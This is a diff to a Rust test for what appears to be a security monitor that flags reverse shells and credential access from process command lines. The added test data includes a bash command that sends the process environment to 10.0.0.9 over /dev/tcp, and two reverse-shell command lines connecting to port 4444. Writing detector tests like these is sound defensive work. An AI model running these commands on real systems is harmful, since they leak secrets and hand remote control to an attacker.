@@ -433,6 +433,28 @@ fn a_shell_wired_to_a_socket_is_a_reverse_shell() {
     let mut t = Tracker::default();
     let piped = process(12, "/bin/sh", "sh -c curl -sS http://h/a | wc -c");
     assert!(!feed(&mut t, &f, &piped).contains(&Indicator::ShellOverSocket));
+    // Nor one that only writes to /dev/tcp: data sent out (here, the environment).
+    let mut t = Tracker::default();
+    let sends = process(
+        13,
+        "/bin/bash",
+        "bash -c cat /proc/self/environ | head -c 4096 > /dev/tcp/10.0.0.9/8080",
+    );
+    let fired = feed(&mut t, &f, &sends);
+    assert!(!fired.contains(&Indicator::ShellOverSocket), "{fired:?}");
+    assert!(fired.contains(&Indicator::CredentialAccess), "{fired:?}");
+    // With the shell reading from it, it is one, in each way of writing it.
+    for cmdline in [
+        "bash -c sh -i 5<> /dev/tcp/10.0.0.9/4444 0<&5 1>&5",
+        "bash -c exec 3<>/dev/tcp/10.0.0.9/4444; sh <&3 >&3",
+    ] {
+        let mut t = Tracker::default();
+        let fired = feed(&mut t, &f, &process(14, "/bin/bash", cmdline));
+        assert!(
+            fired.contains(&Indicator::ShellOverSocket),
+            "{cmdline}: {fired:?}"
+        );
+    }
 }
 
 #[test]
